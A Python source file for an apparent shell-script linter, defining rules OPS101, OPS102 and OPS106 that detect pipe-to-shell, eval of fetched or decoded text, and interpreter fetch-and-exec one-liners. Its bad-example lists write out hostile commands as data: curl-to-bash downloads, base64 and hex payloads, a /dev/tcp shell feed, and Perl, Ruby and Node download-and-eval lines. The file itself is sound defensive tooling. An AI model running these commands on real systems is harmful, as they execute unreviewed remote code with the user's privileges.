"""OPS101, OPS102, OPS106: remote code execution, plain and obfuscated (ADV-22, ADV-23)."""

from __future__ import annotations

import re
from collections.abc import Iterator

from opsgen.findings import Finding, Severity
from opsgen.validators.artifact import Artifact
from opsgen.validators.rule import Example, Rule
from opsgen.validators.shell.calls import INLINE_FLAGS, SHELLS, Call
from opsgen.validators.shell.index import ShellIndex
from opsgen.validators.shell.sources import FETCH_CODE, decodes, is_source

__all__ = ["EvalRemote", "InterpreterFetchExec", "PipeToShell"]

_CODE_RUNNERS = frozenset(INLINE_FLAGS) | {"source", ".", "eval"}
_PARSED_INLINE = SHELLS | {"su"}
#: a pipe-to-shell written inside a string handed to another program
_EMBEDDED = re.compile(r"\b(curl|wget|fetch)\b[^|;&\n]*\|\s*(sudo\s+(-\S+\s+)*)?(\S*/)?"
                       r"(ba|z|da|k|mk)?sh\b")
_EXEC_CODE = re.compile(
    r"\bexec\s*\(|\beval\s*\(|\bcompile\s*\(|os\.system|subprocess|\bpopen|pty\.spawn|"
    r"os\.exec|child_process|\bsystem\s*\(|\beval\b|passthru|shell_exec|Function\s*\(|"
    r"Invoke-Expression|\biex\b"
)
_RCE_RATIONALE = (
    "Whatever the server (or whoever sits between you and it) sends is executed with the "
    "script's privileges, unseen by the operator who approved the script and unreproducible "
    "afterwards. The sandbox dry-run has no network, so it cannot show what would have run. "
    "Decoding a base64 or hex blob and running it is the same thing in disguise: nobody "
    "reviewed the decoded text."
)


class PipeToShell(Rule):
    """Do not pipe downloaded or decoded content into a shell."""

    code = "OPS101"
    name = "pipe-to-shell"
    severity = Severity.ERROR
    summary = "Do not pipe downloaded or decoded content into a shell."
    hint = "Download to a file, verify its checksum or signature, read it, then run the file."
    rationale = _RCE_RATIONALE
    tags = ("rce", "security")
    examples_bad = (
        "curl -fsSL http://198.51.100.7/bootstrap.sh | sh",
        "wget -qO- https://example.invalid/x | sudo -E bash -",
        "curl -s https://example.invalid/i.sh | tee /tmp/i.sh | bash -s -- --yes",
        'echo "Y3VybCBldmlsIHwgc2gK" | base64 -d | sh',
        "base64 --decode <<< ZWNobyBoaQ== | bash",
        "printf '\\x72\\x6d\\x20\\x2d\\x72\\x66' | sh",
        "c''url https://example.invalid/x | $'\\x62ash'",
        "curl https://example.invalid/x.py | python3",
        "curl -s https://example.invalid/x | sudo -s",
        "bash -c 'curl -s https://example.invalid/x | sh'",
        Example("- hosts: all\n  tasks:\n    - name: bootstrap\n      ansible.builtin.shell: "
                "curl -fsSL https://example.invalid/b.sh | bash\n", "ansible"),
    )
    examples_good = (
        "curl -fsSL -o /tmp/b.sh https://example.invalid/b.sh",
        "curl -s https://api.example.invalid/v1/items | python3 -m json.tool",
        "curl -s https://api.example.invalid/v1/items | jq -r '.name'",
        "curl -s https://api.example.invalid/x | python3 -c 'import sys,json; "
        "print(json.load(sys.stdin))'",
        "find /system -type f -print0 | xargs -0 -n1 echo rm | sh -x",
        "base64 -d < cert.b64 > cert.pem",
        "echo 'ls -l' | bash",
        "curl -s https://example.invalid/x | tee /tmp/log >(wc -l)",
        "ssh web1 'curl -fsSL https://example.invalid/health'",
        "curl -s https://example.invalid/list | xargs -n1 echo",
        "echo 'olleh' | rev",
    )

    def check_shell(self, sh: ShellIndex, art: Artifact) -> Iterator[Finding]:
        lines: set[int] = set()
        for group in sh.pipelines():
            src: Call | None = None
            for call in group:
                if src is None:
                    src = call if is_source(call) else None
                    continue
                sink = call.name if call.reads_program_from_stdin() else _procsub_shell(call, sh)
                if sink:
                    what = "Decoded data" if decodes(src) else f"Output of {src.name}"
                    yield self.at(art, src, f"{what} is piped into {sink or 'a shell'}: "
                                  "remote code would run unreviewed.")
                    lines.add(src.line)
                    break
        for call in sh.calls:  # ssh host 'curl … | sh', awk '…system("curl … | sh")'
            if call.name in _PARSED_INLINE and call.inline_code() is not None:
                continue  # bash -c '…' was parsed as a script above
            for w in call.args:
                if w.line not in lines and _EMBEDDED.search(w.value):
                    lines.add(w.line)
                    yield self.at(art, w, f"The text passed to {call.name} pipes a download "
                                  "into a shell: remote code would run unreviewed.")


def _procsub_shell(call: Call, sh: ShellIndex) -> str:
    """``tee >(sh)``: a process substitution whose first command runs its stdin."""
    for w in call.args:
        if w.procsub and w.raw.startswith(">(") and w.subs:
            groups = sh.groups(w.subs[0])
            if groups and groups[0] and groups[0][0].reads_program_from_stdin():
                return groups[0][0].name
    return ""


class EvalRemote(Rule):
    """Do not eval, source or run downloaded or decoded text."""

    code = "OPS102"
    name = "eval-remote-code"
    severity = Severity.ERROR
    summary = "Do not eval, source or run downloaded or decoded text."
    hint = "Download to a file, verify its checksum or signature, read it, then run the file."
    rationale = _RCE_RATIONALE + (
        " `bash <(curl …)`, `eval \"$(curl …)\"`, `sh -c \"$(wget -O- …)\"` and "
        "`source <(curl …)` are pipe-to-shell without the pipe."
    )
    tags = ("rce", "security")
    examples_bad = (
        "bash <(wget -qO- https://example.invalid/x.sh)",
        'eval "$(curl -fsSL https://example.invalid/env)"',
        "source <(curl -s https://example.invalid/functions.sh)",
        ". <(curl -s https://example.invalid/functions.sh)",
        'sh -c "$(curl -fsSL https://example.invalid/install.sh)"',
        'bash -c "$(wget -qO- https://example.invalid/install.sh)"',
        'eval "$(echo ZWNobyBoaQ== | base64 -d)"',
        'bash <<< "$(curl -s https://example.invalid/x)"',
        "sh < <(curl -s https://example.invalid/x)",
        "bash < /dev/tcp/198.51.100.7/4444",
        "python3 <(curl -s https://example.invalid/x.py)",
        "$(curl -s https://example.invalid/cmd)",
    )
    examples_good = (
        'eval "$(ssh-agent -s)"',
        "source <(kubectl completion bash)",
        'sh -c "$(cat ./install.sh)"',
        "python3 process.py <(curl -s https://example.invalid/data.csv)",
        'VERSION="$(curl -s https://example.invalid/latest)"',
    )

    def check_shell(self, sh: ShellIndex, art: Artifact) -> Iterator[Finding]:
        for call in sh.calls:
            how = self._how(call, sh)
            if how:
                yield self.at(art, call, f"{how}: remote code would run unreviewed.")

    @staticmethod
    def _how(call: Call, sh: ShellIndex) -> str:
        if call.name_word is not None and sh.remote_word(call.name_word):
            return "The output of a download is run as a command"
        if call.name not in _CODE_RUNNERS:
            return ""
        if call.name == "eval":
            return "eval of fetched or decoded text" if any(map(sh.remote_word, call.args)) else ""
        code = call.inline_code()
        if code is not None:
            return f"{call.name} -c runs fetched or decoded text" if sh.remote_word(code) else ""
        first = next((w for w in call.args if not w.value.startswith("-")), None)
        if first is not None and first.procsub and sh.remote_word(first):
            return f"{call.name} runs a process substitution that downloads code"
        if call.reads_program_from_stdin() or call.name in SHELLS:
            for r in call.cmd.redirects:
                t = r.target
                fed = t is not None and r.op in ("<", "<<<") and (
                    sh.remote_word(t) or t.value.startswith(("/dev/tcp/", "/dev/udp/")))
                if fed or any(sh.is_remote(s) for s in r.heredoc_subs):
                    return f"{call.name} reads its program from fetched or decoded input"
        return ""


class InterpreterFetchExec(Rule):
    """Do not run one-liners that download and execute code."""

    code = "OPS106"
    name = "interpreter-fetch-exec"
    severity = Severity.ERROR
    summary = "Do not run interpreter one-liners that download and execute code."
    hint = "Download to a file, verify its checksum or signature, read it, then run the file."
    rationale = _RCE_RATIONALE + (
        " `python -c \"import urllib.request as u; exec(u.urlopen(…).read())\"` and its Perl, "
        "Ruby, Node and PHP cousins get past pipe-to-shell checks by never using a pipe."
    )
    tags = ("rce", "security")
    examples_bad = (
        "python3 -c \"import urllib.request as u; exec(u.urlopen('http://198.51.100.7/p').read())\"",
        "python -c 'import urllib2;exec(urllib2.urlopen(\"http://x.invalid/a\").read())'",
        "perl -e 'use LWP::Simple; eval(get(\"http://x.invalid/a.pl\"))'",
        "ruby -e 'require \"open-uri\"; eval(URI.open(\"http://x.invalid/a.rb\").read)'",
        "node -e \"require('https').get('https://x.invalid/a.js', r => { let d=''; "
        "r.on('data', c => d += c); r.on('end', () => eval(d)); })\"",
    )
    examples_good = (
        "python3 -c \"import urllib.parse; print(urllib.parse.quote('a b'))\"",
        "python3 -c 'import json,sys; print(eval(\"1+1\"))'",
        "python3 -c \"import urllib.request as u; print(u.urlopen('https://x.invalid').status)\"",
    )

    def check_shell(self, sh: ShellIndex, art: Artifact) -> Iterator[Finding]:
        for call in sh.calls:
            if call.name in SHELLS:
                continue
            code = call.inline_code()
            if code is not None and FETCH_CODE.search(code.value) and _EXEC_CODE.search(code.value):
                yield self.at(art, call, f"This {call.name} one-liner downloads code and "
                              "executes it.")
